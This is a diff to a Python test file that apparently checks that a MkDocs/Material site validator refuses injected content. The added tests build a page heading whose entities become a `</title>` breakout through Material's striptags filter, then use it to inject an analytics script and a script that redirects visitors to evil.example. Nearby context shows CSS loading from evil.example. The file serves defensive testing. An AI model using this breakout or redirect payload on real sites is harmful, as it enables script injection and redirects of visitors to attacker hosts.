@@ -64,7 +64,8 @@ def _h1_breaking_title(inner: str) -> str:
     """A page heading written as text (entities): MkDocs makes it the page's title and
     Material writes `{{ page.title | striptags }}` into `<title>`, where `striptags` turns
     the entities back into markup (`&lt;/title&gt;` closes the title)."""
-    return html.escape(f"</title>{inner}<title>", quote=True).replace("#", "&#35;")
+    text = html.escape(f"</title>{inner}<title>", quote=False)
+    return text.replace('"', "&quot;").replace("#", "&#35;")
 
 
 # Chromium: every page (home, treatments) requests
@@ -231,3 +232,30 @@ def test_theme_stylesheet_replaced_from_docs_fetches_from_another_host(project):
         "@import url(https://evil.example/i.css);body{background:url(https://evil.example/b.png)}\n"
     )
     _refused(project, path)
+
+
+# Material's own inline scripts are allowed anywhere in the frame, and the heading route
+# above writes any of them. Chromium, on about/: requests
+# https://www.googletagmanager.com/gtag/js?id=G-X and runs Google's script (Material's
+# analytics template, its gap filled with an id).
+def test_page_heading_writes_the_themes_analytics_script(project):
+    template = Path(material.__file__).parent / "templates/partials/integrations/analytics"
+    analytics = re.search(
+        r'<script id="__analytics">.*?</script>', (template / "google.html").read_text(), re.S
+    )
+    assert analytics is not None
+    call = '<script>"undefined"!=typeof __md_analytics&&__md_analytics()</script>'
+    inner = analytics[0].replace("{{ property }}", "G-X") + call
+    _page(project, "about.md", f"# About {_h1_breaking_title(inner)}\n\nAbout us.\n")
+    _refused(project, "docs/about.md")
+
+
+# Chromium, on about/: the page goes to https://evil.example/ as it loads (Material's
+# redirect template's script, its gap filled with another host's address).
+def test_page_heading_writes_the_themes_redirect_script(project):
+    inner = (
+        '<script>window.location.replace(["https://evil.example/",window.location.search,'
+        'window.location.hash].join(""))</script>'
+    )
+    _page(project, "about.md", f"# About {_h1_breaking_title(inner)}\n\nAbout us.\n")
+    _refused(project, "docs/about.md")
